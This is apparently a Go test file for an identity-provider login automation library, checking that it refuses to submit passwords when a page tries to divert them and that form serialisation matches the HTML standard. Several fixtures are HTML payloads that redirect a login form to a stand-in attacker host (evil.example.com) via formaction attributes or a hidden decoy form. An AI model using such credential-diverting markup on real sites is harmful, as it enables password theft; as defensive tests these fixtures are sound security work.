package idp_test

import (
	"reflect"
	"testing"

	"github.com/samlogin/samlogin/idp"
	"github.com/samlogin/samlogin/idp/idptest"
)

// security case 10
func TestAButtonCannotSendThePasswordElsewhere(t *testing.T) {
	form := func(button string) string {
		return `<form id="loginForm" method="post" action="/post">` + fields + button + `</form>`
	}
	for name, page := range map[string]string{
		"formaction":                   form(`<button formaction="https://evil.example.com/">Sign in</button>`),
		"formaction of an input":       form(`<input type="submit" formaction="https://evil.example.com/">`),
		"formaction of an image":       form(`<input type="image" formaction="https://evil.example.com/">`),
		"formaction from outside":      form("") + `<button form="loginForm" formaction="https://evil.example.com/">Sign in</button>`,
		"formaction of a second one":   form(`<button>Sign in</button><button formaction="//evil.example.com/">Help</button>`),
		"formmethod":                   form(`<button formmethod="get">Sign in</button>`),
		"formmethod that is no method": form(`<button formmethod="put">Sign in</button>`),
		"GET":                          login(`method="get" action="/post"`),
		"no method, which is GET":      login(`action="/post"`),
		"a method that is none":        login(`method="put" action="/post"`),
		"dialog":                       login(`method="dialog" action="/post"`),
	} {
		t.Run(name, func(t *testing.T) {
			w := idptest.New(t)
			s := w.Site(host).On(start, idptest.HTML(page))
			w.Site(evil)
			p := &idptest.Person{Types: map[idp.Kind][]string{idp.Password: {canary}}}
			_, err := idp.NewWalk(config(t, w)).Run(t.Context(), at(t, "https://"+host+startURL), p)
			unsafe(t, err)
			if len(s.Requests()) != 1 || len(p.Asked()) != 0 {
				t.Errorf("%d requests, %d questions", len(s.Requests()), len(p.Asked()))
			}
			reached(t, w, host+":443")
		})
	}
}

// security case 9
func TestAHiddenFormBeforeTheRealOneGetsNothing(t *testing.T) {
	decoy := `<form method="post" action="https://evil.example.com/"%>` + fields + `</form>`
	w := idptest.New(t)
	s := w.Site(host).On(start, idptest.HTML(`<div style="display: none">`+decoy+`</div>`+posting("/post"))).On("POST /post", response(t))
	w.Site(evil)
	if _, err := run(t, w); err != nil {
		t.Fatal(err)
	}
	if n := len(s.Posts()); n != 1 {
		t.Errorf("sent %d forms", n)
	}
	reached(t, w, host+":443")

	w = idptest.New(t)
	w.Site(host).On(start, idptest.HTML(decoy+posting("/post")))
	w.Site(evil)
	_, err := run(t, w)
	unsafe(t, err)
	reached(t, w, host+":443")
}

// A step that names another field than one of type password is not carried out, whoever wrote the recogniser.
//
// security case 11
func TestThePasswordGoesIntoAPasswordFieldOnly(t *testing.T) {
	for name, field := range map[string]string{
		"a text field": `<input name="Password">`, "a hidden one": `<input type="hidden" name="Password">`,
		"a text field first": `<input name="Password"><input type="password" name="Password">`,
		"both a text area":   `<textarea name="Password"></textarea>`,
	} {
		t.Run(name, func(t *testing.T) {
			w := idptest.New(t)
			s := w.Site(host).On(start, idptest.HTML(`<form method="post" action="/post">`+field+`</form>`))
			c := config(t, w)
			c.Recognisers = []idp.Recogniser{{Name: "careless", Read: func(p *idp.Page) idp.Step { return idp.SignIn{Form: p.Forms[0], Password: "Password"} }}}
			_, err := idp.NewWalk(c).Run(t.Context(), at(t, "https://"+host+startURL), stored())
			unsafe(t, err)
			if n := len(s.Posts()); n != 0 {
				t.Errorf("sent %d forms", n)
			}
		})
	}
}

// security case 11
func TestOneNameForUserAndPasswordIsRefused(t *testing.T) {
	for _, fields := range []string{`<input name="UserName" type="text"><input name="UserName" type="password">`, `<input name="UserName" type="password"><input name="UserName" type="text">`} {
		w := idptest.New(t)
		s := w.Site(host).On(start, idptest.HTML(`<form id="loginForm" method="post" action="/post">`+fields+`</form>`))
		_, err := run(t, w)
		unsafe(t, err)
		if n := len(s.Posts()); n != 0 {
			t.Errorf("sent %d forms", n)
		}
	}
}

// What a browser would send of a form that nobody touched, by the HTML standard, section 4.10.22.4.
func TestAFormSendsWhatABrowserWould(t *testing.T) {
	p := readPage(t, "https://"+host+"/", `<form method="post">
		<input name="a" value="1"><input type="hidden" name="b"><input name="" value="no name"><input value="no name either">
		<input type="checkbox" name="c"><input type="checkbox" name="d" checked><input type="checkbox" name="e" value="E" checked>
		<input type="radio" name="f" value="1"><input type="radio" name="f" value="2" checked>
		<select name="g"><option value="1">one<option selected>two </select><select name="h"><option>first<option>second</select><select name="i"></select>
		<textarea name="j">
text</textarea><input name="k" value="off" disabled><fieldset disabled><input name="l" value="off"></fieldset>
		<input type="submit" name="m" value="M"><button name="n" value="N">N</button><input type="reset" name="o"><input type="file" name="p"><input type="image" name="q">
		<input type="HIDDEN" name="r" value="R"><input type="unheard" name="s" value="S"><input name="a" value="2">
	</form><input form="x" name="y" value="lost"><form id="x" method="post"><input name="z" value="Z"></form>`)
	want := []idp.Pair{{"a", "1"}, {"b", ""}, {"d", "on"}, {"e", "E"}, {"f", "2"}, {"g", "two"}, {"h", "first"}, {"j", "text"}, {"r", "R"}, {"s", "S"}, {"a", "2"}}
	if got := p.Forms[0].Filled(); !reflect.DeepEqual(got, want) {
		t.Errorf("untouched: %v\n want %v", got, want)
	}
	want[0].Value = "typed"
	want[len(want)-1] = idp.Pair{Name: "new", Value: "N"} // in place of the second "a"
	if got := p.Forms[0].Filled(idp.Pair{Name: "a", Value: "typed"}, idp.Pair{Name: "new", Value: "N"}); !reflect.DeepEqual(got, want) {
		t.Errorf("filled in: %v\n want %v", got, want)
	}
	if got := p.Forms[1].Filled(); !reflect.DeepEqual(got, []idp.Pair{{"y", "lost"}, {"z", "Z"}}) {
		t.Errorf("a control outside its form: %v", got)
	}
}
